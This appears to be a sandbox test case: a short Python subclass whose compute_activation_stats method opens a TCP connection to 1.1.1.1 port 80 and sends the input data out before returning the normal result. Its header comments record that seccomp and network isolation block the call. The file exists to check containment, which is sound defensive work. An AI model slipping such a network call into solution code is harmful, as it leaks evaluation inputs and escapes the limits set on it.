# verdict: runtime_error
# attack: opens a TCP connection to send the inputs out
# stopped by: seccomp (socket fails with EPERM); bubblewrap's empty network namespace as well
# needs: L1
# base: reference
import socket


class Solution(Solution):
    def compute_activation_stats(self, model, x):
        socket.create_connection(("1.1.1.1", 80), timeout=2).sendall(repr(x.tolist()).encode())
        return super().compute_activation_stats(model, x)
